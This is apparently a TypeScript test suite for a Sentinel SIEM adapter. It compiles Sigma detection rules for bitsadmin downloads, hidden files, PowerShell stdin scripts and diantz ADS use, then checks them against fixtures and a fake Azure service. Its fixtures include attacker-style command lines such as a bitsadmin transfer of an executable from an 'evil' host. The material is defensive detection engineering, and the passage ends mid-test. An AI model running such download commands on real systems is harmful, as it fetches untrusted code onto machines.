import { SENTINEL } from '../../sigma/pipelines';
/**
 * The Sentinel adapter against the fake Azure (test/fakes/sentinel): every adapter method, the token
 * cache, the faults Azure plays (refused credentials, throttling, a failed write, a slow answer),
 * TLS with a private CA, and what the fake refuses.
 *
 * Rules quoted from the Sigma corpus (/work/shared/sigma/corpus/rules, Detection Rule License 1.1):
 * - windows/process_creation/proc_creation_win_bitsadmin_download.yml (Michael Haag, FPT.EagleEye)
 * - windows/process_creation/proc_creation_win_attrib_hiding_files.yml (Sami Ruohonen)
 * - windows/process_creation/proc_creation_win_powershell_run_script_from_input_stream.yml
 *   (Moriarty Meng (idea), Anton Kutepov (rule), oscd.community)
 * - windows/process_creation/proc_creation_win_lolbin_diantz_ads.yml (frack113)
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parseRule, type SigmaRule } from '../../sigma';
import { compileForTarget } from '../../sigma/lint/for-target';
import type { CompiledRule } from '../../siem/adapter';
import { objectName } from '../../siem/remote/deployed-marker';
import { isSiemRequestError, type SiemRequestError } from '../../siem/remote/errors';
import { REMOTE_KINDS } from '../../siem/remote-kinds';
import { sentinelConnection, sentinelKind, type SentinelAdapter } from '../../siem/sentinel';
import { fixtureQuery } from '../../siem/sentinel/fixture-table';
import { startFakeSentinel, type FakeSentinel } from '../fakes/sentinel';
import { runKql, KqlError, type KqlTable } from '../fakes/sentinel/kql';

const TENANT = '11111111-1111-4111-8111-111111111111';
const TARGET = '22222222-2222-4222-8222-222222222222';
const DEPLOY_A = '33333333-3333-4333-8333-333333333333';
const DEPLOY_B = '44444444-4444-4444-8444-444444444444';

const BITSADMIN = `title: File Download Via Bitsadmin
id: d059842b-6b9d-4ed1-b5c3-5b89143c6ede
status: test
description: Detects usage of bitsadmin downloading a file
author: Michael Haag, FPT.EagleEye
tags:
    - attack.persistence
    - attack.execution
    - attack.stealth
    - attack.t1197
    - attack.s0190
    - attack.t1036.003
    - attack.command-and-control
    - attack.t1105
logsource:
    category: process_creation
    product: windows
detection:
    selection_img:
        - Image|endswith: '\\bitsadmin.exe'
        - OriginalFileName: 'bitsadmin.exe'
    selection_cmd:
        CommandLine|contains: ' /transfer '
    selection_cli_1:
        CommandLine|contains:
            - ' /create '
            - ' /addfile '
    selection_cli_2:
        CommandLine|contains: 'http'
    condition: selection_img and (selection_cmd or all of selection_cli_*)
level: medium
`;

const ATTRIB = `title: Hiding Files with Attrib.exe
id: 4281cb20-2994-4580-aa63-c8b86d019934
status: test
author: Sami Ruohonen
tags:
    - attack.stealth
    - attack.t1564.001
logsource:
    category: process_creation
    product: windows
detection:
    selection_img:
        - Image|endswith: '\\attrib.exe'
        - OriginalFileName: 'ATTRIB.EXE'
    selection_cli:
        CommandLine|contains: ' +h '
    filter_main_msiexec:
        CommandLine|contains: '\\desktop.ini '
    filter_optional_intel:
        ParentImage|endswith: '\\cmd.exe'
        CommandLine: '+R +H +S +A \\\\\\*.cui'
        ParentCommandLine: 'C:\\\\WINDOWS\\\\system32\\\\\\*.bat'
    condition: all of selection_* and not 1 of filter_main_* and not 1 of filter_optional_*
level: medium
`;

const PS_STDIN = `title: Run PowerShell Script from Redirected Input Stream
id: c83bf4b5-cdf0-437c-90fa-43d734f7c476
status: test
author: Moriarty Meng (idea), Anton Kutepov (rule), oscd.community
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        Image|endswith:
            - '\\powershell.exe'
            - '\\pwsh.exe'
        CommandLine|re: '\\s-\\s*<'
    condition: selection
level: high
`;

const DIANTZ = `title: Suspicious Diantz Alternate Data Stream Execution
id: 6b369ced-4b1d-48f1-b427-fdc0de0790bd
status: test
author: frack113
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        CommandLine|contains|all:
            - diantz.exe
            - .cab
        CommandLine|re: ':[^\\\\]'
    condition: selection
level: medium
`;

const day = (d: string, h = 12) => new Date(`${d}T${String(h).padStart(2, '0')}:00:00Z`);

describe('sentinel adapter against the fake Azure', () => {
  let fake: FakeSentinel;
  let adapter: SentinelAdapter;
  let clock: Date;
  const adapters: SentinelAdapter[] = [];

  function build(connection: Record<string, unknown> = {}, fakeFor: FakeSentinel = fake): SentinelAdapter {
    const parsed = sentinelConnection.parse({ ...fakeFor.connection(), ingest_lag_seconds: 60, timeout_ms: 5_000, ...connection });
    const a = sentinelKind.create({ targetId: TARGET, targetName: 'sentinel-test', connection: parsed, now: () => clock }) as SentinelAdapter;
    adapters.push(a);
    return a;
  }

  function compiled(text: string, ruleId = parseRule(text).id!, version = 1): CompiledRule {
    const rule = parseRule(text);
    const result = adapter.compile(rule);
    if (!result.ok) throw new Error(result.issues.map((i) => i.message).join('; '));
    return {
      ruleId,
      version,
      query: result.query,
      ...(result.logsource ? { logsource: result.logsource } : {}),
      title: rule.title,
      // As domain/rules/rule-compilation.ts fills it: the tags the ATT&CK mapping is written from.
      tags: rule.tags,
      ...(rule.level ? { level: rule.level } : {}),
    };
  }

  async function failure(p: Promise<unknown>): Promise<SiemRequestError> {
    try {
      await p;
    } catch (err) {
      if (isSiemRequestError(err)) return err;
      throw err;
    }
    throw new Error('expected a SiemRequestError');
  }

  beforeEach(async () => {
    clock = new Date('2025-03-10T00:00:00Z');
    fake = await startFakeSentinel({ pageSize: 2 });
    adapter = build();
  });

  afterEach(async () => {
    for (const a of adapters.splice(0)) a.close();
    await fake.close();
  });

  describe('connection settings', () => {
    it('is registered as the sentinel kind', () => {
      expect(REMOTE_KINDS.sentinel).toBe(sentinelKind);
    });

    it('fills Azure public cloud defaults and a query period of twice the frequency', () => {
      const c = sentinelConnection.parse({ ...fake.connection(), authority_host: undefined, arm_url: undefined, log_analytics_url: undefined, query_frequency: 'PT1H' });
      expect(c).toMatchObject({
        authority_host: 'https://login.microsoftonline.com',
        arm_url: 'https://management.azure.com',
        log_analytics_url: 'https://api.loganalytics.io',
        api_version: '2025-09-01',
        query_frequency: 'PT1H',
        query_period: 'PT2H',
        max_concurrency: 4,
        ingest_lag_seconds: 60,
      });
    });

    it('refuses plain http off loopback, a period shorter than the frequency, and a frequency Sentinel does not run', () => {
      const bad = sentinelConnection.safeParse({ ...fake.connection(), arm_url: 'http://management.example.com', query_frequency: 'PT1H', query_period: 'PT30M' });
      expect(bad.success).toBe(false);
      const messages = bad.error!.issues.map((i) => `${i.path.join('.')}: ${i.message}`).join('\n');
      expect(messages).toMatch(/arm_url: must use https/);
      const period = sentinelConnection.safeParse({ ...fake.connection(), query_frequency: 'PT1H', query_period: 'PT30M' });
      expect(period.error?.issues[0]?.path).toEqual(['query_period']);
      expect(sentinelConnection.safeParse({ ...fake.connection(), query_frequency: 'PT1M' }).success).toBe(false);
    });
  });

  describe('compile and fixtures', () => {
    it('compiles a process_creation rule to a DeviceProcessEvents query with its logsource', () => {
      const result = adapter.compile(parseRule(BITSADMIN));
      expect(result).toMatchObject({ ok: true, logsource: { category: 'process_creation', product: 'windows' } });
      expect(result.ok && result.query).toMatch(/^DeviceProcessEvents \| where /);
      expect(adapter.capabilities()).toMatchObject({ queryLanguage: 'kql', fixtures: true, historicalSearch: true, deploy: true, alertStats: true, runStats: true });
    });

    it('reports a logsource the SENTINEL pipeline cannot place as a compile issue', () => {
      const rule = parseRule(BITSADMIN.replace('category: process_creation\n    product: windows', 'product: openbsd'));
      const result = adapter.compile(rule);
      expect(result.ok).toBe(false);
      expect(!result.ok && result.issues[0]!.code).toBe('backend-unsupported');
    });

    it('runs the rule query over the fixtures as a datatable in the workspace', async () => {
      const rule = compiled(BITSADMIN);
      const outcomes = await adapter.runFixtures(rule, [
        { name: 'download', expect: 'match', event: { Image: 'C:\\Windows\\System32\\bitsadmin.exe', CommandLine: 'bitsadmin /transfer job https://evil/x.exe C:\\x.exe' } },
        { name: 'renamed binary', expect: 'match', event: { Image: 'C:\\tmp\\b.exe', OriginalFileName: 'bitsadmin.exe', CommandLine: 'b /create job' } },
        { name: 'no transfer', expect: 'no_match', event: { Image: 'C:\\Windows\\System32\\bitsadmin.exe', CommandLine: 'bitsadmin /list' } },
        { name: 'wrong expectation', expect: 'match', event: { Image: 'C:\\Windows\\notepad.exe', CommandLine: 'notepad /transfer ' } },
      ]);
      expect(outcomes.map((o) => [o.name, o.matched, o.passed])).toEqual([
        ['download', true, true],
        ['renamed binary', false, false],
        ['no transfer', false, true],
        ['wrong expectation', false, false],
      ]);
      expect(outcomes[3]!.reason).toMatch(/did not match/);
      expect(fake.requests().filter((r) => r.path.endsWith('/query'))).toHaveLength(1);
    });

    it('builds fixture tables that name every column the query reads, renamed by the pipeline', () => {
      const rule = compiled(ATTRIB);
      const built = fixtureQuery(rule.query, rule.logsource, [{ name: 'x', expect: 'match', event: { Image: 'C:\\attrib.exe', ProcessId: 4 } }], SENTINEL);
      expect(built.ok).toBe(true);
      const q = built.ok ? built.query : '';
      expect(q).toMatch(/^let T = datatable\(/);
      expect(q).toMatch(/FolderPath:string/);
      expect(q).toMatch(/ProcessId:long/);
      expect(q).toMatch(/InitiatingProcessCommandLine:string/);
      expect(q).toMatch(/\nT \| where /);
      expect(q).toMatch(/\| project detflow_fixture$/);
    });
  });

  describe('search, count and live evaluation', () => {
    beforeEach(() => {
      fake.addProcessEvents([
        { time: day('2025-03-01', 9), image: 'C:\\Windows\\System32\\bitsadmin.exe', commandLine: 'bitsadmin /transfer a http://x/a C:\\a', host: 'ws1', user: 'CORP\\alice' },
        { time: day('2025-03-01', 10), image: 'C:\\Windows\\System32\\notepad.exe', commandLine: 'notepad', host: 'ws1' },
        {
          time: day('2025-03-02', 11),
          image: 'C:\\Windows\\System32\\bitsadmin.exe',
          commandLine: 'bitsadmin /create b',
          host: 'ws2',
          parentImage: 'C:\\Windows\\System32\\cmd.exe',
        },
        { time: day('2025-03-03', 8), image: 'C:\\Windows\\System32\\bitsadmin.exe', commandLine: 'bitsadmin /addfile b http://x/b C:\\b', host: 'ws2' },
        { time: day('2025-03-05', 8), image: 'C:\\Windows\\System32\\bitsadmin.exe', commandLine: 'bitsadmin /transfer c http://x/c C:\\c', host: 'ws3' },
      ]);
    });

    it('counts matches and scanned events per day over a half-open window', async () => {
      const result = await adapter.count(TENANT, TARGET, compiled(BITSADMIN), { from: day('2025-03-01', 0), to: day('2025-03-04', 0) });
      expect(result).toMatchObject({ matched: 2, scanned: 4, bytesScanned: 0 });
      expect(result.perDay).toEqual([
        { day: '2025-03-01', scanned: 2, matched: 1 },
        { day: '2025-03-02', scanned: 1, matched: 0 },
        { day: '2025-03-03', scanned: 1, matched: 1 },
      ]);
    });

    it('searches the matched events in time order, truncated at the limit', async () => {
      const window = { from: day('2025-03-01', 0), to: day('2025-03-06', 0) };
      const all = await adapter.search(TENANT, TARGET, compiled(BITSADMIN), window);
      expect(all.events.map((e) => e.time.toISOString())).toEqual([day('2025-03-01', 9), day('2025-03-03', 8), day('2025-03-05', 8)].map((d) => d.toISOString()));
      expect(all.events[0]!.event).toMatchObject({ FolderPath: 'C:\\Windows\\System32\\bitsadmin.exe', AccountName: 'alice', DeviceName: 'ws1' });
      expect(all.truncated).toBe(false);
      const one = await adapter.search(TENANT, TARGET, compiled(BITSADMIN), window, { limit: 1 });
      expect(one).toMatchObject({ matched: 3, truncated: true });
      expect(one.events).toHaveLength(1);
      expect(await adapter.planChunks(TENANT, TARGET, { from: day('2025-03-01', 6), to: day('2025-03-03', 0) }, 1000)).toHaveLength(2);
    });

    it('evaluates live from an event-time cursor up to now less the ingestion lag', async () => {
      clock = day('2025-03-05', 9);
      expect(await adapter.latestCursor(TENANT, TARGET)).toBe(clock.getTime() - 60_000);
      const first = await adapter.evaluateSince(TENANT, TARGET, compiled(BITSADMIN), day('2025-03-02', 0).getTime());
      expect(first.matched).toBe(2);
      expect(first.events.map((e) => e.seq)).toEqual([day('2025-03-03', 8).getTime(), day('2025-03-05', 8).getTime()]);
      expect(first.cursor).toBe(clock.getTime() - 60_000);
      const again = await adapter.evaluateSince(TENANT, TARGET, compiled(BITSADMIN), first.cursor);
      expect(again).toMatchObject({ matched: 0, cursor: first.cursor });
    });

    it('tells which fields the logsource carries and how fresh it is', async () => {
      clock = day('2025-03-06', 0);
      const presence = await adapter.fieldPresence({
        tenantId: TENANT,
        targetId: TARGET,
        logsource: { category: 'process_creation', product: 'windows' },
        fields: ['FolderPath', 'InitiatingProcessFolderPath', 'NoSuchColumn'],
        since: day('2025-03-02', 0),
      });
      expect(presence).toEqual({ events: 3, fields: { FolderPath: 3, InitiatingProcessFolderPath: 1, NoSuchColumn: 0 }, newestEventTime: day('2025-03-05', 8) });
    });
  });

  describe('deployment', () => {
    it('creates a scheduled rule once and changes nothing when the same deployment comes again', async () => {
      const rule = compiled(BITSADMIN);
      const first = await adapter.deploy({ deploymentId: DEPLOY_A, tenantId: TENANT, targetId: TARGET, rule });
      expect(first).toMatchObject({ changed: true, superseded: null, deployment: { deploymentId: DEPLOY_A, ruleId: rule.ruleId, state: 'active' } });
      const stored = fake.rule(objectName(rule.ruleId))!;
      expect(stored.properties).toMatchObject({
        displayName: 'File Download Via Bitsadmin',
        severity: 'Medium',
        enabled: true,
        query: rule.query,
        queryFrequency: 'PT5M',
        queryPeriod: 'PT10M',
        triggerOperator: 'GreaterThan',
        triggerThreshold: 0,
        suppressionEnabled: false,
        tactics: ['Execution', 'Persistence', 'DefenseEvasion', 'CommandAndControl'],
        techniques: ['T1036', 'T1105', 'T1197'],
      });
      expect(String(stored.properties.description)).toMatch(new RegExp(`detflow rule id: ${rule.ruleId}\\n\\nManaged by detflow.*\\n\\[detflow deployment=${DEPLOY_A} `));
      const again = await adapter.deploy({ deploymentId: DEPLOY_A, tenantId: TENANT, targetId: TARGET, rule });
      expect(again.changed).toBe(false);
      expect(fake.writes()).toHaveLength(1);
    });

    it('updates with the etag it read and reports the deployment it superseded', async () => {
      const rule = compiled(BITSADMIN);
      await adapter.deploy({ deploymentId: DEPLOY_A, tenantId: TENANT, targetId: TARGET, rule });
      const etag = fake.rule(objectName(rule.ruleId))!.etag;
      const next = await adapter.deploy({ deploymentId: DEPLOY_B, tenantId: TENANT, targetId: TARGET, rule: { ...rule, version: 2 } });
      expect(next).toMatchObject({ changed: true, superseded: DEPLOY_A });
      expect(fake.rule(objectName(rule.ruleId))!.etag).not.toBe(etag);
      expect(
        fake
          .requests()
          .filter((r) => r.method === 'PUT')
          .map((r) => r.status),
      ).toEqual([201, 200]);
    });

    it('reads the rule again and writes once more when the etag it sent is stale', async () => {
      const rule = compiled(BITSADMIN);
      await adapter.deploy({ deploymentId: DEPLOY_A, tenantId: TENANT, targetId: TARGET, rule });
      fake.fault({ times: 1, match: /^PUT /, status: 409 });
      expect(await adapter.deploy({ deploymentId: DEPLOY_B, tenantId: TENANT, targetId: TARGET, rule })).toMatchObject({ changed: true, superseded: DEPLOY_A });
      expect(
        fake
          .requests()
          .filter((r) => r.method === 'PUT')
          .map((r) => r.status),
      ).toEqual([201, 409, 200]);
      expect(fake.writes()).toHaveLength(2);
    });

    it('re-enables a rule someone disabled', async () => {
      const rule = compiled(BITSADMIN);
      await adapter.deploy({ deploymentId: DEPLOY_A, tenantId: TENANT, targetId: TARGET, rule });
      fake.setEnabled(objectName(rule.ruleId), false);
      expect((await adapter.deploy({ deploymentId: DEPLOY_A, tenantId: TENANT, targetId: TARGET, rule })).changed).toBe(true);
      expect(fake.objects()[0]!.enabled).toBe(true);
    });

    it('lists deployments across nextLink pages, inventories detflow objects with drift, and undeploys', async () => {
      const rules = [compiled(BITSADMIN), compiled(ATTRIB), compiled(PS_STDIN)];
      for (const [i, rule] of rules.entries()) {
        await adapter.deploy({ deploymentId: `${DEPLOY_A.slice(0, -1)}${i}`, tenantId: TENANT, targetId: TARGET, rule });
      }
      // An object someone made by hand under the naming scheme, and a rule that is not detflow's.
      const token = fake.issueToken('arm');
      const base = `/subscriptions/${String(fake.connection().subscription_id)}/resourceGroups/rg-detflow/providers/Microsoft.OperationalInsights/workspaces/law-detflow/providers/Microsoft.SecurityInsights/alertRules`;
      for (const name of ['detflow-handmade', 'soc-rule']) {
        const put = await fake.send('arm', {
          method: 'PUT',
          path: `${base}/${name}?api-version=2025-09-01`,
          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
          body: JSON.stringify({
            kind: 'Scheduled',
            properties: {
              displayName: name,
              enabled: true,
              severity: 'Low',
              query: 'DeviceProcessEvents | take 1',
              queryFrequency: 'PT1H',
              queryPeriod: 'PT1H',
              triggerOperator: 'GreaterThan',
              triggerThreshold: 0,
              suppressionEnabled: false,
              suppressionDuration: 'PT1H',
            },
          }),
        });
        expect(put.status).toBe(201);
      }
      fake.editQuery(objectName(rules[1]!.ruleId), `${rules[1]!.query} and AccountName != "svc"`);

      const deployed = await adapter.listDeployed(TENANT, TARGET);
      expect(deployed.map((d) => d.ruleId).sort()).toEqual(rules.map((r) => r.ruleId).sort());
      expect(await adapter.listDeployed('55555555-5555-4555-8555-555555555555')).toEqual([]);
      expect(fake.requests().filter((r) => r.method === 'GET' && r.path.endsWith('/alertRules')).length).toBeGreaterThanOrEqual(3);

      const inventory = await adapter.inventory(TENANT, TARGET);
      expect(inventory.map((o) => o.name).sort()).toEqual(['detflow-handmade', ...rules.map((r) => objectName(r.ruleId))].sort());
      const byName = new Map(inventory.map((o) => [o.name, o]));
      expect(byName.get('detflow-handmade')).toMatchObject({ deploymentId: null, queryUnchanged: false, ruleId: 'handmade' });
      expect(byName.get(objectName(rules[1]!.ruleId))).toMatchObject({ queryUnchanged: false, enabled: true });
      expect(byName.get(objectName(rules[0]!.ruleId))).toMatchObject({ queryUnchanged: true, deploymentId: `${DEPLOY_A.slice(0, -1)}0`, version: 1 });

      expect(await adapter.undeploy(TENANT, `${DEPLOY_A.slice(0, -1)}0`)).toEqual({ changed: true });
      expect(fake.rule(objectName(rules[0]!.ruleId))).toBeUndefined();
      expect(await adapter.undeploy(TENANT, `${DEPLOY_A.slice(0, -1)}0`)).toEqual({ changed: false });
    });
  });

  describe('health', () => {
    it('counts the alerts the rule raised from SecurityAlert', async () => {
      const rule = compiled(BITSADMIN);
      await adapter.deploy({ deploymentId: DEPLOY_A, tenantId: TENANT, targetId: TARGET, rule });
      fake.recordAlerts(objectName(rule.ruleId), [day('2025-03-01', 1), day('2025-03-01', 5), day('2025-03-03', 2), day('2025-03-09', 2)]);
      fake.recordAlerts('detflow-other', [day('2025-03-02', 1)]);
      const stats = await adapter.alertStats(TENANT, rule.ruleId, { from: day('2025-03-01', 0), to: day('2025-03-04', 0) });
      expect(stats).toEqual({
        ruleId: rule.ruleId,
        alerts: 3,
        perDay: [
          { day: '2025-03-01', alerts: 2 },
          { day: '2025-03-02', alerts: 0 },
          { day: '2025-03-03', alerts: 1 },
        ],
        firstAlertAt: day('2025-03-01', 1),
        lastAlertAt: day('2025-03-03', 2),
      });
    });

    it('counts runs and failures from SentinelHealth', async () => {
      const rule = compiled(BITSADMIN);
      await adapter.deploy({ deploymentId: DEPLOY_A, tenantId: TENANT, targetId: TARGET, rule });
      fake.recordRuns(objectName(rule.ruleId), [
        { time: day('2025-03-01', 1), status: 'Success' },
        { time: day('2025-03-01', 2), status: 'Failure', reason: 'The query timed out.' },
        { time: day('2025-03-01', 3), status: 'Success' },
      ]);
      const stats = await adapter.runStats(TENANT, rule.ruleId, { from: day('2025-03-01', 0), to: day('2025-03-02', 0) });
      expect(stats).toEqual({
        ruleId: rule.ruleId,
        runs: 3,
        failedRuns: 1,
        eventsScanned: 0,
        meanDurationMs: 0,
        maxDurationMs: 0,
        lastRunAt: day('2025-03-01', 3),
        lastError: 'The query timed out.',
      });
      const none = await adapter.runStats(TENANT, 'not-deployed', { from: day('2025-03-01', 0), to: day('2025-03-02', 0) });
      expect(none).toMatchObject({ runs: 0, lastRunAt: null, lastError: null });
    });
  });

  describe('tokens', () => {
    it('asks for one token per resource for many calls', async () => {
      const rule = compiled(BITSADMIN);
      await Promise.all([
        adapter.count(TENANT, TARGET, rule, { from: day('2025-03-01', 0), to: day('2025-03-04', 0) }),
        adapter.count(TENANT, TARGET, rule, { from: day('2025-03-01', 0), to: day('2025-03-04', 0) }),
        adapter.listDeployed(TENANT),
        adapter.inventory(TENANT, TARGET),
      ]);
      await adapter.search(TENANT, TARGET, rule, { from: day('2025-03-01', 0), to: day('2025-03-04', 0) });
      const conn = fake.connection();
      expect(fake.tokenRequests().sort()).toEqual([`${String(conn.arm_url)}/.default`, `${String(conn.log_analytics_url)}/.default`].sort());
    });

    it('fetches a new token once the cached one is about to expire', async () => {
      await adapter.listDeployed(TENANT);
      clock = new Date(clock.getTime() + 3_000_000);
      await adapter.listDeployed(TENANT);
      expect(fake.tokenRequests()).toHaveLength(1);
      clock = new Date(clock.getTime() + 400_000);
      await adapter.listDeployed(TENANT);
      expect(fake.tokenRequests()).toHaveLength(2);
    });

    it('renews short-lived tokens', async () => {
      const shortLived = await startFakeSentinel({ tokenLifetimeSeconds: 60 });
      try {
        const a = build({}, shortLived);
        await a.listDeployed(TENANT);
        clock = new Date(clock.getTime() + 50_000);
        await a.listDeployed(TENANT);
        expect(shortLived.tokenRequests()).toHaveLength(1);
        clock = new Date(clock.getTime() + 5_000);
        await a.listDeployed(TENANT);
        expect(shortLived.tokenRequests()).toHaveLength(2);
      } finally {
        await shortLived.close();
      }
    });

    it('on a 401 for a token the resource no longer takes, fetches a new one and retries once', async () => {
      await adapter.listDeployed(TENANT);
      fake.revokeTokens();
      expect(await adapter.listDeployed(TENANT)).toEqual([]);
      expect(fake.tokenRequests()).toHaveLength(2);
      expect(fake.requests().filter((r) => r.status === 401)).toHaveLength(1);
    });
  });

  describe('faults', () => {
    it('refused credentials are an auth failure that names the AADSTS reason and never the secret', async () => {
      fake.expireCredentials();
      const err = await failure(adapter.listDeployed(TENANT));
      expect(err.failure).toBe('auth');
      expect(err.retryable).toBe(false);
      expect(err.message).toMatch(/AADSTS7000222/);
      expect(err.message).not.toContain(String(fake.connection().client_secret));
      fake.restoreCredentials();
      expect(await adapter.listDeployed(TENANT)).toEqual([]);
    });

    it('a wrong secret is an auth failure too, and the secret stays out of the message', async () => {
      const wrong = build({ client_secret: 'not-the-secret-value' });
      const err = await failure(wrong.inventory(TENANT, TARGET));
      expect(err).toMatchObject({ failure: 'auth', details: { status: 401 } });
      expect(err.message).toMatch(/AADSTS7000215/);
      expect(err.message).not.toContain('not-the-secret-value');
    });

    it('401 with a fresh token is an auth failure after one retry', async () => {
      await adapter.listDeployed(TENANT);
      fake.fault({ times: 2, match: /^GET .*alertRules$/, status: 401 });
      const err = await failure(adapter.listDeployed(TENANT));
      expect(err.failure).toBe('auth');
      expect(fake.requests().filter((r) => r.status === 401)).toHaveLength(2);
    });

    it('throttling is reported with the Retry-After it gave', async () => {
      fake.fault({ times: 1, match: /\/query$/, status: 429, retryAfterSeconds: 7 });
      const err = await failure(adapter.count(TENANT, TARGET, compiled(BITSADMIN), { from: day('2025-03-01', 0), to: day('2025-03-02', 0) }));
      expect(err).toMatchObject({ failure: 'throttled', details: { status: 429, retryAfterMs: 7000 } });
      expect(err.retryable).toBe(true);
    });

    it('a 500 while deploying fails the deploy; the retried deploy writes the rule exactly once', async () => {
      const rule = compiled(BITSADMIN);
      fake.fault({ times: 1, match: /^PUT /, status: 500 });
      const err = await failure(adapter.deploy({ deploymentId: DEPLOY_A, tenantId: TENANT, targetId: TARGET, rule }));
      expect(err.failure).toBe('unavailable');
      expect(fake.objects()).toEqual([]);
      expect((await adapter.deploy({ deploymentId: DEPLOY_A, tenantId: TENANT, targetId: TARGET, rule })).changed).toBe(true);
      expect((await adapter.deploy({ deploymentId: DEPLOY_A, tenantId: TENANT, targetId: TARGET, rule })).changed).toBe(false);
      expect(fake.writes()).toHaveLength(1);
    });

    it('an answer slower than timeout_ms is a timeout', async () => {
      const impatient = build({ timeout_ms: 200 });
      fake.fault({ times: 1, match: /alertRules$/, delayMs: 1_000 });
      const err = await failure(impatient.listDeployed(TENANT));
      expect(err.failure).toBe('timeout');
    });

    it('the vendor message of a refused query reaches the caller', async () => {
      const rule = { ruleId: 'r', version: 1, query: 'DeviceProcessEvents | where NoSuchColumn == "x"' };
      const err = await failure(adapter.count(TENANT, TARGET, rule, { from: day('2025-03-01', 0), to: day('2025-03-02', 0) }));
      expect(err.failure).toBe('rejected');
      expect(err.details.vendorMessage).toMatch(/BadArgumentError: .*Failed to resolve scalar expression named 'NoSuchColumn'/);
    });
  });

  describe('TLS with a private CA', () => {
    let dir: string;
    let tlsFake: FakeSentinel;
    let ca: string;

    beforeAll(async () => {
      dir = fs.mkdtempSync(path.join(os.tmpdir(), 'detflow-sentinel-tls-'));
      const ssl = (...args: string[]) => execFileSync('/usr/bin/openssl', args, { cwd: dir, stdio: 'pipe' });
      ssl('req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'ca.key', '-out', 'ca.pem', '-days', '2', '-subj', '/CN=detflow test CA');
      ssl('req', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'server.key', '-out', 'server.csr', '-subj', '/CN=127.0.0.1');
      fs.writeFileSync(path.join(dir, 'ext.cnf'), 'subjectAltName=IP:127.0.0.1\n');
      ssl('x509', '-req', '-in', 'server.csr', '-CA', 'ca.pem', '-CAkey', 'ca.key', '-CAcreateserial', '-out', 'server.pem', '-days', '2', '-extfile', 'ext.cnf');
      ca = fs.readFileSync(path.join(dir, 'ca.pem'), 'utf8');
      tlsFake = await startFakeSentinel({ tls: { key: fs.readFileSync(path.join(dir, 'server.key'), 'utf8'), cert: fs.readFileSync(path.join(dir, 'server.pem'), 'utf8') } });
    });

    afterAll(async () => {
      await tlsFake.close();
      fs.rmSync(dir, { recursive: true, force: true });
    });

    it('connects with the ca_bundle and fails without it', async () => {
      expect(String(tlsFake.connection().arm_url)).toMatch(/^https:/);
      const trusted = build({ ca_bundle: ca }, tlsFake);
      expect(await trusted.listDeployed(TENANT)).toEqual([]);
      const untrusted = build({}, tlsFake);
      const err = await failure(untrusted.listDeployed(TENANT));
      expect(err.failure).toBe('unavailable');
      expect(err.message).toMatch(/certificate/);
    });
  });

  describe('what the fake refuses', () => {
    const armPath = () =>
      `/subscriptions/${String(fake.connection().subscription_id)}/resourceGroups/rg-detflow/providers/Microsoft.OperationalInsights/workspaces/law-detflow/providers/Microsoft.SecurityInsights/alertRules`;
    const validRule = {
      kind: 'Scheduled',
      properties: {
        displayName: 'x',
        enabled: true,
        severity: 'High',
        query: 'DeviceProcessEvents | take 1',
        queryFrequency: 'PT5M',
        queryPeriod: 'PT10M',
        triggerOperator: 'GreaterThan',
        triggerThreshold: 0,
        suppressionEnabled: false,
        suppressionDuration: 'PT5H',
      },
    };

    it('an ARM call without api-version, or with one it does not know', async () => {
      const auth = { authorization: `Bearer ${fake.issueToken('arm')}` };
      const missing = await fake.send('arm', { method: 'GET', path: armPath(), headers: auth });
      expect(missing).toMatchObject({ status: 400, body: { error: { code: 'MissingApiVersionParameter' } } });
      const unknown = await fake.send('arm', { method: 'GET', path: `${armPath()}?api-version=2019-01-01-preview`, headers: auth });
      expect(unknown).toMatchObject({ status: 400, body: { error: { code: 'InvalidApiVersionParameter' } } });
    });

    it('an ARM call without a token, or with a Log Analytics token', async () => {
      expect(await fake.send('arm', { method: 'GET', path: `${armPath()}?api-version=2025-09-01` })).toMatchObject({
        status: 401,
        body: { error: { code: 'AuthenticationFailed' } },
      });
      const wrongAudience = await fake.send('arm', {
        method: 'GET',
        path: `${armPath()}?api-version=2025-09-01`,
        headers: { authorization: `Bearer ${fake.issueToken('la')}` },
      });
      expect(wrongAudience).toMatchObject({ status: 401, body: { error: { code: 'InvalidAuthenticationTokenAudience' } } });
    });

    it('a scheduled rule that departs from ScheduledAlertRuleProperties, naming what departed', async () => {
      const headers = { authorization: `Bearer ${fake.issueToken('arm')}`, 'content-type': 'application/json' };
      const put = (properties: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
        fake.send('arm', {
          method: 'PUT',
          path: `${armPath()}/detflow-x?api-version=2025-09-01`,
          headers,
          body: JSON.stringify({ ...validRule, ...extra, properties: { ...validRule.properties, ...properties } }),
        });
      expect(await put({ severity: 'Critical' })).toMatchObject({ status: 400, body: { error: { message: expect.stringMatching(/severity/) } } });
      expect(await put({ queryFrequency: '5 minutes' })).toMatchObject({ status: 400, body: { error: { message: expect.stringMatching(/queryFrequency/) } } });
      expect(await put({ tactics: ['Stealth'] })).toMatchObject({ status: 400, body: { error: { message: expect.stringMatching(/tactics/) } } });
      expect(await put({ techniques: ['T1059.001'] })).toMatchObject({ status: 400, body: { error: { message: expect.stringMatching(/techniques/) } } });
      expect(await put({ suppressionDuration: undefined })).toMatchObject({ status: 400, body: { error: { message: expect.stringMatching(/suppressionDuration/) } } });
      expect(await put({ query: 'DeviceProcessEvents | where Nope == 1' })).toMatchObject({
        status: 400,
        body: { error: { message: expect.stringMatching(/Failed to run the analytics rule query/) } },
      });
      expect(await put({}, { kind: 'NRT' })).toMatchObject({ status: 400, body: { error: { message: expect.stringMatching(/kind/) } } });
      const text = await fake.send('arm', {
        method: 'PUT',
        path: `${armPath()}/detflow-x?api-version=2025-09-01`,
        headers: { ...headers, 'content-type': 'text/plain' },
        body: JSON.stringify(validRule),
      });
      expect(text.status).toBe(415);
      expect(await put({})).toMatchObject({ status: 201 });
      expect(await put({}, { etag: '"stale"' })).toMatchObject({ status: 409 });
    });

    it('a token request that is not a client credentials grant for a known scope', async () => {
      const c = fake.connection();
      const token = (form: Record<string, string>, contentType = 'application/x-www-form-urlencoded') =>
        fake.send('login', {
          method: 'POST',
          path: `/${String(c.tenant_id)}/oauth2/v2.0/token`,
          headers: { 'content-type': contentType },
          body: new URLSearchParams(form).toString(),
        });
